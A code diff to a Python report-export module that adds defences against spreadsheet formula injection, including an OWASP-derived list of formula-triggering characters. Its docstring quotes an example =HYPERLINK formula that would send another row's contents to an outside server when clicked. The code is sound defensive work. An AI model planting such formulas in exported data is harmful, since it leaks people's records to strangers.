@@ -4,6 +4,12 @@ The files are read by people in Excel, not by programs: the author is named (bot
 are Japan time to the minute ('2026-12-01 14:05', not UTC with microseconds), and in xlsx the
 dates are date cells with a date format (so they sort and filter as dates) in columns wide enough
 to read.  Rows are written as they come, so a large export does not grow in memory.
+
+Every cell a person typed (report text, case codes, areas) or a platform gave (display names) is
+text, never a formula: a report reading ``=HYPERLINK("http://…/?d="&F3, …)`` would otherwise send
+another row to a stranger's server when a supervisor clicks it.  In xlsx such cells are string
+cells marked with Excel's quote prefix (so editing the cell keeps it text); in CSV, which has no
+types, a cell that Excel would read as a formula gets a leading ``'``, as OWASP recommends.
 """
 from __future__ import annotations
 
@@ -28,6 +34,8 @@ WIDTHS = {"number": 10, "date": 12, "type": 14, "area": 16, "case_code": 10, "su
           "next_date": 12, "next_time": 10, "platform": 10, "author": 20, "created_at": 17}
 DATE_FORMAT = "yyyy-mm-dd"
 TIME_FORMAT = "yyyy-mm-dd hh:mm"
+# What makes a spreadsheet read a cell as a formula (OWASP's list for CSV injection)
+FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r")
 
 
 def local_time(iso: str | None) -> datetime | None:
@@ -68,14 +76,23 @@ def _cells(r: dict, *, as_text: bool) -> list:
     return out
 
 
+def formula_like(v: object) -> bool:
+    return isinstance(v, str) and v.startswith(FORMULA_LEAD)
+
+
+def csv_text(v: str) -> str:
+    """A CSV cell Excel and LibreOffice show as the text it is (a leading ``'``)."""
+    return "'" + v if formula_like(v) else v
+
+
 def values(r: dict) -> list:
     """A report as typed cell values (xlsx)."""
     return _cells(r, as_text=False)
 
 
 def texts(r: dict) -> list[str]:
-    """A report as the text of a CSV row."""
-    return _cells(r, as_text=True)
+    """A report as the text of a CSV row, none of it a formula."""
+    return [csv_text(v) for v in _cells(r, as_text=True)]
 
 
 def csv_chunks(rows: Iterable[dict]):
@@ -113,6 +130,11 @@ def write_xlsx(rows: Iterable[dict], path: str | Path) -> None:
         if isinstance(v, (date, datetime)):
             c = WriteOnlyCell(ws, value=v)
             c.number_format = TIME_FORMAT if isinstance(v, datetime) else DATE_FORMAT
+            return c
+        if formula_like(v):  # openpyxl makes a str that starts with '=' a formula; any other str is text
+            c = WriteOnlyCell(ws, value=v)
+            c.data_type = "s"
+            c.quotePrefix = True
             return c
         return v
     for r in rows:
